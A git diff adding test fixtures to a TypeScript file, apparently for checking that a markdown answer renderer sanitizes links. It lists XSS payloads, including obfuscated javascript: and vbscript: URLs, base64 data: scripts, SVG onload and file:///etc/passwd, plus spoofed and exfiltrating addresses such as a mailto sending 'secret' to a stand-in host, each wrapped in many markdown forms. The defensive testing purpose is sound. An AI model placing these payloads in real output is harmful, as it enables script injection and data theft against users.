@@ -47,3 +47,51 @@ export const hostileAnswers: readonly string[] = [
   'Sources: [1](javascript:window.__hit=1) {"sources":[{"number":1,"page":1}]}',
   '\u202e<img src=/inj>\u202c \u200b[x](jav\u200bascript:window.__hit=1) \u0000<script>window.__hit=1</script>',
 ]
+
+const addresses = [
+  `${away}/p?q=secret`,
+  '//inj.example/p',
+  '\\\\inj.example\\p',
+  '/\\inj.example/p',
+  'javascript:window.__hit=1',
+  'JaVaScRiPt:window.__hit=1',
+  'java&#115;cript:window.__hit=1',
+  'java\tscript:window.__hit=1',
+  '&#x6A;avascript&colon;window.__hit=1',
+  'vbscript:msgbox',
+  'data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19oaXQ9MTwvc2NyaXB0Pg==',
+  'data:image/svg+xml,%3Csvg%20onload=window.__hit=1%3E',
+  'blob:https://inj.example/1',
+  'file:///etc/passwd',
+  'https://ignite.example@inj.example/',
+  'http://[::1]:80/',
+  'https://аpple.example/',
+  'https://inj.example%2f@ignite.example/',
+  '/api/logins/out',
+  'mailto:a@inj.example?body=secret',
+]
+
+/** Where markdown takes an address. */
+const carriers: ((address: string) => string)[] = [
+  to => `[the notes](${to})`,
+  to => `[the notes](<${to}> "a title")`,
+  to => `[the notes][n]\n\n[n]: ${to} "t"`,
+  to => `[n]\n\n[n]: <${to}>`,
+  to => `<${to}>`,
+  to => to,
+  to => `![p](${to})`,
+  to => `![p][n]\n\n[n]: ${to}`,
+  to => `[![p](${to})](${to})`,
+  to => `Claim[^1].\n\n[^1]: See [l](${to}) and ![p](${to}).`,
+  to => `| a |\n|---|\n| [l](${to}) ![p](${to}) |`,
+  to => `- [ ] [l](${to})\n  > ![p](${to})`,
+  to => `# [l](${to})\n\n***![p](${to})***`,
+  to => `$\\href{${to}}{x} \\includegraphics{${to}}$`,
+  to => `<a href="${to}">x</a><img src="${to}">`,
+]
+
+/** As many as the full target asks for: also each of many addresses in each place that markdown has for one. */
+export const everyHostileAnswer: readonly string[] = [
+  ...hostileAnswers,
+  ...addresses.flatMap(address => carriers.map(carry => carry(address))),
+]
